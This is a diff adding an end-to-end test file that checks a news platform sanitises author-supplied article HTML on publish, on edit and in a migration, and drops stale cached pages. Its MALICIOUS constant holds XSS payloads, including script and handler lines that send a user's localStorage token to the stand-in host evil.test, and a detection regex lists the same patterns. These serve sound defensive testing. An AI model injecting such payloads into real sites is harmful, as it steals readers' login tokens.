@@ -1,0 +1,181 @@
+import type { NestFastifyApplication } from '@nestjs/platform-fastify';
+import { DataSource } from 'typeorm';
+
+import { mysqlDataSourceOptions } from '@app/database';
+
+import { editorArticleHtml } from '../../apps/news/src/authoring/article-html.stub';
+import { NEWS_SCHEMA } from '../../apps/news/src/database/news-schema';
+
+import {
+  type ArticleStack,
+  IMG,
+  seedArticles,
+  seedUsers,
+  startArticleStack,
+} from './support/article-stack';
+
+const AUTHOR = '1294287382374383960';
+const ARTICLES = '/mp/v1_0/articles';
+const MIGRATION = 'SanitizeNewsArticleContent1764450000000';
+const PICTURE = `${IMG}Fh3k9`;
+const STORED_BEFORE = '1500000000000000901';
+const CLEAN_BEFORE = '1500000000000000902';
+
+/** What an author can send through the publish admin's HTTP API, or any HTTP client. */
+const MALICIOUS = [
+  '<p onmouseover="fetch(`//evil.test/?t=${localStorage.getItem(\'TOUTIAO_USER\')}`)">正文</p>',
+  '<script>fetch("//evil.test/?t=" + localStorage.TOUTIAO_USER)</script>',
+  `<img src="${PICTURE}" onerror="alert(1)">`,
+  '<img src=x onerror=alert(2)>',
+  '<a href="&#106;avascript:alert(3)">链接</a>',
+  '<iframe src="https://evil.test/"></iframe>',
+  '<style>body{display:none}</style>',
+  '<svg onload="alert(4)"><circle r="1"/></svg>',
+].join('');
+const MALICIOUS_STORED = `<p>正文</p><img src="${PICTURE}" /><a>链接</a>`;
+
+/** No script, handler, script URL or frame in what a reader's page is given. */
+function expectHarmless(html: string): void {
+  expect(html).not.toMatch(/<script|<iframe|<style|<svg|\son\w+=|javascript:|&#106;/i);
+}
+
+describe('article HTML: stored sanitised, so the app serves no author script', () => {
+  let stack: ArticleStack;
+  let mp: NestFastifyApplication;
+  let auth: Record<string, string>;
+
+  const send = async (method: 'POST' | 'PUT', url: string, title: string, content: string) => {
+    const reply = await mp.inject({
+      method,
+      url,
+      payload: { title, content, cover: { type: -1, images: [] }, channel_id: 1 },
+      headers: auth,
+    });
+    expect(reply.statusCode).toBe(201);
+    return reply.json<{ data: { id: string } }>().data.id;
+  };
+  const inApp = async (id: string): Promise<string> => {
+    const reply = await stack.gateway.inject({ method: 'GET', url: `/app/v1_0/articles/${id}` });
+    expect(reply.statusCode).toBe(200);
+    return reply.json<{ data: { content: string } }>().data.content;
+  };
+  const forAuthor = async (id: string) => {
+    const reply = await mp.inject({ method: 'GET', url: `${ARTICLES}/${id}`, headers: auth });
+    expect(reply.statusCode).toBe(200);
+    return reply.json<{ data: { content: string; cover: { type: number; images: string[] } } }>()
+      .data;
+  };
+  const storedContent = async (id: string): Promise<string> =>
+    (
+      (await stack.sql('SELECT content FROM news_article_content WHERE article_id = ?', [
+        id,
+      ])) as Array<{ content: string }>
+    )[0].content;
+
+  /** Runs the news migration again as the migration Job does: configured by the environment. */
+  const runMigrationAgain = async (): Promise<string[]> => {
+    const saved = { ...process.env };
+    Object.assign(process.env, stack.env);
+    const dataSource = await new DataSource(
+      mysqlDataSourceOptions(stack.database.settings, NEWS_SCHEMA),
+    ).initialize();
+    try {
+      await dataSource.query('DELETE FROM migrations_news WHERE name = ?', [MIGRATION]);
+      const applied = await dataSource.runMigrations({ transaction: 'each' });
+      return applied.map((migration) => migration.name);
+    } finally {
+      await dataSource.destroy();
+      process.env = saved;
+    }
+  };
+
+  beforeAll(async () => {
+    stack = await startArticleStack({ AUTO_APPROVE_AUTHORS: AUTHOR });
+    await seedUsers(stack, [{ id: AUTHOR, name: 'author' }]);
+    await stack.sql(
+      "INSERT INTO news_channel (channel_id, channel_name, sequence, is_visible, is_default) VALUES (1, 'html', 1, 1, 1)",
+    );
+    mp = await stack.startMediaPlatform();
+    auth = {
+      authorization: `Bearer ${await stack.signIn(AUTHOR, { verified: true, scope: 'mp' })}`,
+    };
+  });
+
+  afterAll(async () => {
+    await stack?.close();
+  });
+
+  it('serves an approved malicious article to the app without its script, handlers, script URLs or frames', async () => {
+    const id = await send('POST', `${ARTICLES}?draft=false`, 'A malicious article', MALICIOUS);
+    const content = await inApp(id);
+    expect(content).toBe(MALICIOUS_STORED);
+    expectHarmless(content);
+    expect(await storedContent(id)).toBe(MALICIOUS_STORED);
+    // The automatic cover still finds the content's picture, and the author edits what is stored.
+    expect(await forAuthor(id)).toEqual(
+      expect.objectContaining({ content: MALICIOUS_STORED, cover: { type: 1, images: [PICTURE] } }),
+    );
+  });
+
+  it('sanitises an edit of an approved article, which the app then serves in place of the cached page', async () => {
+    const id = await send('POST', `${ARTICLES}?draft=false`, 'Harmless at first', '<p>正文</p>');
+    expect(await inApp(id)).toBe('<p>正文</p>');
+    await send('PUT', `${ARTICLES}/${id}?draft=false`, 'Then made malicious', MALICIOUS);
+    const content = await inApp(id);
+    expect(content).toBe(MALICIOUS_STORED);
+    expectHarmless(content);
+  });
+
+  it('serves a rich article from the editor as written, only serialised anew', async () => {
+    const { sent, stored } = editorArticleHtml(PICTURE);
+    const id = await send('POST', `${ARTICLES}?draft=false`, 'A rich editor article', sent);
+    expect(await inApp(id)).toBe(stored);
+    expect((await forAuthor(id)).cover).toEqual({ type: 1, images: [PICTURE] });
+    // Sent again as the author's editor loads it, it is stored byte for byte.
+    await send('PUT', `${ARTICLES}/${id}?draft=false`, 'A rich editor article', stored);
+    expect(await storedContent(id)).toBe(stored);
+    expect(await inApp(id)).toBe(stored);
+  });
+
+  it('migrates articles stored before, dropping their cached pages, and leaves clean ones alone', async () => {
+    await seedArticles(stack, [
+      {
+        id: STORED_BEFORE,
+        authorId: AUTHOR,
+        channelId: 1,
+        title: 'Stored as sent',
+        status: 2,
+        createdAt: '2026-01-02 03:04:05',
+        content: MALICIOUS,
+      },
+      {
+        id: CLEAN_BEFORE,
+        authorId: AUTHOR,
+        channelId: 1,
+        title: 'Clean already',
+        status: 2,
+        createdAt: '2026-01-02 03:04:06',
+        content: '<p>干净</p>',
+      },
+    ]);
+    // Read once, so the gateway and the cache Redis hold the page as it was stored.
+    expect(await inApp(STORED_BEFORE)).toBe(MALICIOUS);
+    expect(await stack.cache.exists(`art:${STORED_BEFORE}:detail`)).toBe(1);
+    expect(await inApp(CLEAN_BEFORE)).toBe('<p>干净</p>');
+
+    expect(await runMigrationAgain()).toEqual([MIGRATION]);
+    expect(await storedContent(STORED_BEFORE)).toBe(MALICIOUS_STORED);
+    expect(await stack.cache.exists(`art:${STORED_BEFORE}:detail`)).toBe(0);
+    expect(await stack.cache.exists(`art:${CLEAN_BEFORE}:detail`)).toBe(1);
+    const content = await inApp(STORED_BEFORE);
+    expect(content).toBe(MALICIOUS_STORED);
+    expectHarmless(content);
+    expect(await storedContent(CLEAN_BEFORE)).toBe('<p>干净</p>');
+
+    // A second run finds nothing to rewrite, so the page cached since stays.
+    expect(await stack.cache.exists(`art:${STORED_BEFORE}:detail`)).toBe(1);
+    expect(await runMigrationAgain()).toEqual([MIGRATION]);
+    expect(await stack.cache.exists(`art:${STORED_BEFORE}:detail`)).toBe(1);
+    expect(await storedContent(STORED_BEFORE)).toBe(MALICIOUS_STORED);
+  });
+});
